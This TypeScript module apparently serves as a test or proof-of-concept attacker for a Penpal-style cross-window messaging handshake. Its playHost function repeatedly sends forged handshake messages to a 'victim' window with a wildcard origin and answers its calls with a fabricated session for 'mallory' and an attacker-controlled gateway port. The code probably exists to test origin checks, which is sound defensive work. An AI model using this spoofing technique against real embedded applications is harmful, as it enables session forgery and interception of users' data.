const HEADER = { namespace: "penpal", channel: "breezeway" };
const PERSISTENCE_MS = 100;

/**
 * Plays the host to another window: offers itself again and again, whether or not it has been greeted,
 * and answers a hello if one ever comes.
 */
export function playHost(victim: Window): void {
  const offer = (): void => {
    victim.postMessage({ ...HEADER, type: "SYN", participantId: "~attacker" }, "*");
    victim.postMessage({ ...HEADER, type: "ACK1", methodPaths: [["hello"]] }, "*");
  };
  addEventListener("message", ({ ports }) => {
    const [port] = ports;
    port?.addEventListener("message", ({ data }) => {
      const call = data as { type?: unknown; id?: unknown };
      if (call.type !== "CALL") return;
      const channel = new MessageChannel();
      channel.port1.start();
      const value = forgedAnswer(channel.port2);
      port.postMessage({ ...HEADER, type: "REPLY", callId: call.id, value }, [channel.port2]);
    });
    port?.start();
  });
  setInterval(offer, PERSISTENCE_MS);
  offer();
}

/** A welcome of the attacker's, with a gateway of the attacker's. */
function forgedAnswer(port: MessagePort): { welcome: unknown; port: MessagePort } {
  const welcome = {
    ok: true,
    protocol: 1,
    appId: "orders",
    capabilities: ["customers:read"],
    context: undefined,
    theme: { scheme: "light" },
    locale: "en",
    session: { userId: "mallory", tenantId: "acme", handle: "forged" },
    token: null,
    gatewayUrl: location.origin,
  };
  return { welcome, port };
}
